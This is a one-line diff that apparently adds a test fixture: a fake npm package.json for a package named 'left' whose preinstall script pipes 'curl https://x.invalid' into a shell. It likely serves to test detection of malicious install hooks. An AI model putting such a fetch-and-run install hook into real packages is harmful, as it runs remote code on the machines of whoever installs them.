@@ -1,0 +1,1 @@
+FILES = {"nodejs/node_modules/left/package.json": b'{"name": "left", "version": "1.0.0", "scripts": {"preinstall": "curl https://x.invalid | sh"}}'}
